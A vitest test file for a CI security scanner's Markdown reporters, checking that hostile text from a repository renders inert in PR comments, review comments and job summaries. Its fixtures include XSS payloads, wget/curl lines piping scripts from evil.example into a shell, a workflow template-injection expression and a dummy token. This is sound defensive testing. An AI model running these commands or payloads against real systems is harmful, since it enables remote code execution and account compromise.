import { describe, expect, it } from 'vitest';
import type { PrFile } from '../../src/core/diff.js';
import type { Finding } from '../../src/core/types.js';
import { renderRuleDoc } from '../../src/docs.js';
import { code, fence, link, message, segments, text, url } from '../../src/reporters/markdown.js';
import { toPrComment } from '../../src/reporters/pr-comment.js';
import { buildReview } from '../../src/reporters/review.js';
import { toSummaryMarkdown } from '../../src/reporters/summary.js';
import { summarise } from '../../src/core/gate.js';
import { rules } from '../../src/rules/index.js';
import { scanDirectory, scanFiles } from '../../src/scan.js';
import { decodeEntities, htmlProblems, links, render, tableProblems, tables, textOf } from './markdown-check.js';

const ZWSP = /\u200b/g;

/** The one data cell of a one-column table holding `md`; the row must have exactly one cell. */
function cell(md: string): string {
  const html = render(`| h |\n| --- |\n| ${md} |`);
  const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) => m[1]!);
  expect(rows).toHaveLength(2);
  const cells = [...rows[1]!.matchAll(/<td>([\s\S]*?)<\/td>/g)];
  expect(cells).toHaveLength(1);
  return cells[0]![1]!;
}

/** The decoded text of every `<code>` element, in order. */
const codes = (html: string): string[] => [...html.matchAll(/<code[^>]*>([\s\S]*?)<\/code>/g)].map((m) => decodeEntities(m[1]!));

/** The rendered text a reader sees outside code: where GitHub looks for mentions, references and URLs. */
const prose = (html: string): string => textOf(html.replace(/<pre>[\s\S]*?<\/pre>/g, ' ').replace(/<code[^>]*>[\s\S]*?<\/code>/g, ' '));

/** What GitHub would turn into a mention, reference or link in rendered text (marked does only the URLs). */
function liveReferences(s: string): string[] {
  const live = [/@[A-Za-z0-9_-]/, /#\d/, /\bGH-\d/i, /(?:https?|ftp):\/\//i, /www\./i];
  return live.flatMap((re) => [...s.matchAll(new RegExp(re, 'g' + re.flags))].map((m) => s.slice(Math.max(0, m.index - 20), m.index + 20)));
}

const TAGS = new Set(['p', 'br', 'code', 'pre', 'a', 'strong', 'em', 'span', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'details', 'summary', 'h2', 'h3', 'hr', 'ul', 'li']);

/** Every element is one the writer means to make: no image, no raw HTML, links only to our own URLs. */
function ownMarkupOnly(html: string, hrefs: readonly string[]): void {
  expect(htmlProblems(html)).toEqual([]);
  for (const m of html.replace(/<!--[\s\S]*?-->/g, '').matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    const [tag, name, attrs] = [m[0], m[1]!.toLowerCase(), m[2]!.trim()];
    expect(TAGS.has(name), tag).toBe(true);
    if (tag.startsWith('</')) expect(attrs, tag).toBe('');
    else if (name === 'a') expect(attrs, tag).toMatch(/^href="[^"]*"$/);
    else if (name === 'code') expect(attrs, tag).toMatch(/^(class="language-suggestion")?$/);
    else if (name === 'th' || name === 'td') expect(attrs, tag).toMatch(/^(align="(left|right|center)")?$/);
    else expect(attrs, tag).toBe('');
  }
  for (const m of html.matchAll(/<span>([\s\S]*?)<\/span>/g)) expect(m[1]).toBe('$');
  for (const l of links(html)) expect(hrefs.some((h) => l.href.startsWith(h)), l.href).toBe(true);
}

/** Tables keep their columns in the Markdown and in the rendered rows; every `<details>` is closed by ours. */
function noSpill(md: string, html: string): void {
  expect(tableProblems(md)).toEqual([]);
  for (const t of tables(md)) for (const r of t.rows) expect(r).toHaveLength(t.header.length);
  expect((html.match(/<details>/g) ?? []).length).toBe((html.match(/<\/details>/g) ?? []).length);
}

describe('code spans', () => {
  const contents = [
    'curl … | bash',
    "${{ github.event.issue.title || 'untitled' }}",
    'a`b',
    '`lead',
    'trail`',
    '``fenced``',
    ' padded ',
    '  ',
    'grep a\\|b',
    'x\\\\|y',
    '|',
    '\\',
    'services/a|b/Dockerfile',
    '<img src=x onerror=alert(1)> </details> [x](javascript:alert(1)) @org/team #1 https://evil.example $a$',
  ];

  it('hold their text exactly, outside a table', () => {
    for (const c of contents) {
      const html = render(code(c));
      expect(html.trim(), c).toBe(`<p>${html.trim().slice(3, -4)}</p>`);
      expect(codes(html), c).toEqual([c]);
      expect(prose(html).trim(), c).toBe('');
    }
  });

  it('hold their text exactly inside a table cell, which never spills over', () => {
    for (const c of contents) {
      const html = cell(code(c, { cell: true }));
      expect(textOf(html), c).toBe(c);
      // A pipe after a backslash sits between two spans (renderers split cells differently at `\\|`); all else is code.
      expect(codes(html).join('|'), c).toBe(c);
    }
    expect(cell(`${code('a | b', { cell: true })} and ${code('c||d', { cell: true })}`)).toBe('<code>a | b</code> and <code>c||d</code>');
  });

  it('become one line', () => {
    expect(codes(render(code('a\nb\r\nc')))).toEqual(['a b c']);
    expect(codes(cell(code('a\nb | c', { cell: true })))).toEqual(['a b | c']);
  });
});

describe('messages: the rule\'s code spans stay code, the rest is inert', () => {
  const cases: [string, string[]][] = [
    [
      '`curl … | bash` runs a script from evil.example as it downloads it: verify its SHA-256 (`echo "<sha256>  install.sh" | sha256sum -c -`), then run it.',
      ['curl … | bash', 'echo "<sha256>  install.sh" | sha256sum -c -'],
    ],
    [
      "`${{ github.event.issue.title || 'untitled' }}` in the `run:` script expands the issue title: pass it through `env:` (`ISSUE_TITLE: ${{ github.event.issue.title || 'untitled' }}`) and use \"$ISSUE_TITLE\" instead.",
      ["${{ github.event.issue.title || 'untitled' }}", 'run:', 'env:', "ISSUE_TITLE: ${{ github.event.issue.title || 'untitled' }}"],
    ],
    // Backticks of the repository's own inside a rule's span: shell command substitution, a format string.
    ['`echo "deb https://x `lsb_release -cs` main" > /etc/apt/sources.list` writes a source', ['echo "deb https://x `lsb_release -cs` main" > /etc/apt/sources.list']],
    ['`curl https://x/`uname -m`.sh | sh` runs a script', ['curl https://x/`uname -m`.sh | sh']],
    ["`${{ format('`{0}`', github.event.issue.title) }}` in the `run:` script", ["${{ format('`{0}`', github.event.issue.title) }}", 'run:']],
    ['regenerate the entry (`npm install`/`yarn`/`pnpm install`) so', ['npm install', 'yarn', 'pnpm install']],
    ['workflow permissions `contents: write`, `packages: write`', ['contents: write', 'packages: write']],
    ['a longer fence: `` a`b `` stays one span', ['a`b']],
    ['one ` tick <i> and no span', []],
    ['`services/a|b/Dockerfile` has a pipe in its path', ['services/a|b/Dockerfile']],
  ];

  it('keeps every span intact in a table cell and outside one, and every other character as written', () => {
    for (const [m, spans] of cases) {
      expect(segments(m).filter((s) => s.code).map((s) => s.text), m).toEqual(spans);
      for (const html of [cell(message(m, { cell: true })), render(message(m))]) {
        expect(codes(html), m).toEqual(spans);
        expect(textOf(html).replace(ZWSP, '').trim(), m).toBe(segments(m).map((s) => s.text).join(''));
        ownMarkupOnly(html, []);
      }
    }
  });

  it('renders every message the rules write (their bad examples and the demo) with its spans intact', async () => {
    const messages = new Set<string>(rules.map((r) => r.fix));
    for (const r of rules) for (const ex of r.examples.bad) for (const f of scanFiles({ [ex.path]: ex.text, ...(ex.files ?? {}) }).findings) messages.add(f.message);
    for (const f of (await scanDirectory(new URL('../../fixtures/demo', import.meta.url).pathname)).findings) messages.add(f.message);
    expect(messages.size).toBeGreaterThan(100);
    for (const m of messages) {
      const spans = segments(m).filter((s) => s.code).map((s) => s.text.replace(/\r?\n/g, ' '));
      const html = cell(message(m, { cell: true }));
      expect(codes(html), m).toEqual(spans);
      // Nothing lost or added: the text is the message without the spans' own backticks.
      expect(textOf(html).replace(ZWSP, ''), m).toBe(segments(m).map((s) => (s.code ? s.text.replace(/\r?\n/g, ' ') : s.text)).join('').trim());
    }
  });

  it('clips long messages between words, never leaving a span open or cutting a word in one', () => {
    // One long word in a span: half of it would be another command, so the span goes and the ellipsis marks it.
    let html = cell(message(`see \`${'x'.repeat(50)}\` then more`, { cell: true, max: 20 }));
    expect(codes(html)).toEqual([]);
    expect(textOf(html)).toBe('see…');
    // A span with words keeps the whole words that fit; the ellipsis stays outside the code.
    html = cell(message('pipes `curl -fsSL https://example.test/install.sh | bash` into a shell', { cell: true, max: 24 }));
    expect(codes(html)).toEqual(['curl -fsSL']);
    expect(textOf(html)).toBe('pipes curl -fsSL…');
    // Prose is cut before a space, and the separator left before the cut goes.
    html = cell(message('Pin `actions/checkout` to a full commit SHA, or let frizbee rewrite every reference', { cell: true, max: 60 }));
    expect(textOf(html)).toBe('Pin actions/checkout to a full commit SHA, or let frizbee…');
    expect(codes(html)).toEqual(['actions/checkout']);
  });

  it('clips a lone code span between words, with the ellipsis outside it', () => {
    const html = render(code('npm install left-pad@1.3.0 --save-exact', { max: 20 }));
    expect(codes(html)).toEqual(['npm install']);
    expect(textOf(html).trim()).toBe('npm install…');
  });
});

describe('inert text', () => {
  const hostile = [
    '@org/team and @user, please look: #1, acme/app#2, GH-3',
    'https://evil.example/x www.evil.example mailto:a@evil.example b@evil.example ftp://evil.example',
    '</details></td></tr></table><img src=x onerror=alert(1)><script>alert(1)</script><!-- x -->',
    '[x](javascript:alert(1)) ![img](https://evil.example/i.png) [ref]: https://evil.example <https://evil.example>',
    '**bold** _em_ ~~gone~~ `code` $x^2$ and $y$ &#64;user &lt; \\*',
    'a | b || c \\| d',
    'line one\nline two\r\n# heading',
    'x\u202eevil\u0000',
  ];
  const lineStarts = ['# heading', '- item', '+ item', '* item', '1. first', '2) second', '> quote', '    indented code', '---', '===', '```js', '~~~', '| a | b |', '[^1]: note', '- [ ] task', '> [!WARNING]'];

  it('renders exactly as written, as plain text, in a cell and as a paragraph of its own', () => {
    for (const s of [...hostile, ...lineStarts]) {
      const want = s.replace(/\r\n/g, '\n').replace(/\u202e|\0/g, '\uFFFD');
      const para = render(text(s));
      expect(para.startsWith('<p>'), s).toBe(true);
      expect(para.trim().endsWith('</p>'), s).toBe(true);
      expect(para.match(/<p>/g), s).toHaveLength(1);
      for (const html of [para, cell(text(s, { cell: true }))]) {
        ownMarkupOnly(html, []);
        expect(codes(html), s).toEqual([]);
        expect(textOf(html).replace(ZWSP, '').trim(), s).toBe(want.trim());
        expect(liveReferences(prose(html)), s).toEqual([]);
      }
    }
  });

  it('shows bidirectional overrides and control characters instead of obeying them', () => {
    expect(textOf(render(text('a\u202eb\u2066c\u0007d')))).toBe('a\uFFFDb\uFFFDc\uFFFDd\n');
  });
});

describe('links', () => {
  it('take a trusted base, encode every part, and escape the label', () => {
    const label = 'a](https://evil.example) [b @org #1 `x|y`';
    const href = url('https://github.com/acme/app', ['blob', 'sha', 'dir (1)', "it's|here"], 'L3-L5');
    expect(href).toBe("https://github.com/acme/app/blob/sha/dir%20%281%29/it%27s%7Chere#L3-L5");
    for (const html of [render(link(label, href)), cell(link(label, href, { cell: true }))]) {
      expect(links(html)).toEqual([{ href, text: label.replace(/([@#])/g, '$1\u200b').replace('https://', 'https:\u200b//') }]);
      ownMarkupOnly(html, [href]);
    }
    const asCode = cell(link('x|y)z', url('https://docs.example/rules', ['x|y)z.md']), { code: true, cell: true }));
    expect(codes(asCode)).toEqual(['x|y)z']);
    expect(links(asCode)[0]!.href).toBe('https://docs.example/rules/x%7Cy%29z.md');
  });

  it('make a base that is not a plain URL harmless', () => {
    expect(url('https://example.test/a b)(<x>', ['c'])).toBe('https://example.test/a%20b%29%28%3Cx%3E/c');
  });
});

describe('fenced blocks', () => {
  it('cannot be closed by their content', () => {
    const content = 'run: |\n  echo ```\n  ````\n```';
    const html = render(`${fence('suggestion', content)}\n\nafter`);
    expect(codes(html)).toEqual([`${content}\n`]);
    expect(html).toContain('<p>after</p>');
  });

  it('carry the rule docs and explain output: every example renders as one code block, unchanged but for control characters', () => {
    // A control character (unchecked-file's NUL bytes) is shown as its Unicode picture: ␀, never written raw.
    // eslint-disable-next-line no-control-regex
    const pictured = (t: string): string => t.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, (c) => String.fromCharCode(0x2400 + c.charCodeAt(0)));
    for (const rule of rules) {
      const html = render(renderRuleDoc(rule));
      expect(htmlProblems(html), rule.id).toEqual([]);
      const blocks = codes(html.replace(/<code>(?![\s\S]*?<\/code><\/pre>)[\s\S]*?<\/code>/g, ''));
      for (const ex of [...rule.examples.bad, ...rule.examples.good]) expect(blocks, `${rule.id} ${ex.path}`).toContain(`${pictured(ex.text.replace(/\n+$/, ''))}\n`);
    }
  });
});

/**
 * The "mentions" test (issue 13): a pull request plants mentions, references, URLs, HTML, images and
 * links in file names, image names, curl hosts, dependency URLs, suppression ids and reasons, and a
 * note; the sticky comment, every inline review comment and the job summary render them inert.
 */
describe('mentions, references, autolinks, HTML and images from the repository are inert everywhere', () => {
  const H = '@org/team @user #1 acme/app#2 GH-3 https://evil.example www.evil.example </details> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![i](https://evil.example/i.png) $a$ &#64;u';
  const dir = 'svc @org #1 <img src=x onerror=alert(1)> [x](javascript:alert(1)) www.evil.example `tick` a|b';
  const files: Record<string, string> = {
    [`${dir}/Dockerfile`]: [
      'FROM evil.example/@org/team:#1',
      'RUN wget -qO- "https://evil.example/@org/team?a=1|2" | bash',
      `RUN apt-get install -y --allow-unauthenticated foo # portcullis: ignore[unsigned-packages] ${H}`,
      `RUN curl -fsSL https://get.example.sh | sh # portcullis: ignore[@org/team] ${H}`,
      'ENV API_TOKEN=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
      '',
    ].join('\n'),
    [`${dir}/package.json`]: JSON.stringify({ name: 'x', dependencies: { '@org/team': 'git+https://evil.example/@org/team.git#main' } }),
    '.github/workflows/ci.yml': [
      'on: issues',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      "      - run: echo \"${{ github.event.issue.title || 'untitled' }}\"",
      '',
    ].join('\n'),
  };
  const result = scanFiles(files, { failOn: 'low' });
  const findings: Finding[] = result.findings;
  const prFiles: PrFile[] = Object.entries(files).map(([filename, t]) => {
    const lines = t.replace(/\n$/, '').split('\n');
    return { filename, status: 'added', patch: [`@@ -0,0 +1,${lines.length} @@`, ...lines.map((l) => `+${l}`)].join('\n') };
  });
  const server = 'https://github.com';
  const docs = 'https://github.com/acme/portcullis/blob/v1/docs/rules';
  const links0 = { serverUrl: server, repository: 'acme/app', headSha: 'a'.repeat(40), runId: 7, docsBaseUrl: docs };
  const ours = [`${server}/acme/app/blob/${'a'.repeat(40)}/`, `${docs}/`, `${server}/acme/app/actions/runs/7`];

  it('plants hostile text in messages, paths and suppressions (the scan reports them)', () => {
    expect(findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(['curl-pipe-shell', 'template-injection', 'unpinned-image', 'unpinned-git-dependency', 'ineffective-suppression']));
    expect(findings.some((f) => f.suppressed?.reason === H)).toBe(true);
    expect(findings.some((f) => f.message.includes('https://evil.example'))).toBe(true);
  });

  function expectInert(md: string): string {
    const html = render(md);
    noSpill(md, html);
    ownMarkupOnly(html, ours);
    expect(liveReferences(prose(html))).toEqual([]);
    return html;
  }

  it('in the sticky comment', () => {
    const md = toPrComment({
      findings,
      novelty: new Map(), // every finding new
      gate: 'new',
      failOn: 'low',
      links: links0,
      rules,
      changes: { suppressions: [{ path: `${dir}/Dockerfile`, line: 3, text: `# portcullis: ignore[unsigned-packages] ${H}` }], configChanges: [{ path: `${dir}/.github/portcullis.yml`, status: 'added' }] },
    });
    const html = expectInert(md);
    const seen = textOf(html).replace(ZWSP, '');
    expect(seen).toContain(H);
    expect(seen).toContain(dir);
    expect(codes(html)).toEqual(expect.arrayContaining(['curl … | sh', "${{ github.event.issue.title || 'untitled' }}", '@org/team', `${dir}/Dockerfile:3`]));
  });

  it('in every inline review comment', () => {
    const plan = buildReview({ findings, files: prFiles, rules, docsBaseUrl: docs, readLines: (p) => files[p]?.split('\n') });
    expect(plan.comments.length).toBeGreaterThan(4);
    for (const c of [...plan.comments.map((x) => x.body), plan.body]) expectInert(c);
    expect(plan.comments.some((c) => codes(render(c.body)).includes('@org/team'))).toBe(true);
  });

  it('in the job summary, its notices and notes', () => {
    const md = toSummaryMarkdown(
      { findings, notices: [...result.notices, { path: `${dir}/x.yml`, line: 2, message: `could not parse: ${H}` }], failOn: 'low', summary: summarise(findings, 'low') },
      { repoUrl: `${server}/acme/app`, sha: 'a'.repeat(40), docsBaseUrl: docs, reportPath: `/tmp/${dir}.json`, notes: [`GitHub said: ${H}`], novelty: () => 'new' },
    );
    const html = expectInert(md);
    const seen = textOf(html).replace(ZWSP, '');
    expect(seen).toContain(H);
    expect(seen).toContain(`GitHub said: ${H}`);
    // The report's path is named when rows are left out.
    const short = toSummaryMarkdown({ findings, notices: [], failOn: 'low', summary: summarise(findings, 'low') }, { reportPath: `/tmp/${dir}.json`, maxBytes: 3000 });
    expect(codes(expectInert(short))).toContain(`/tmp/${dir}.json`);
  });
});
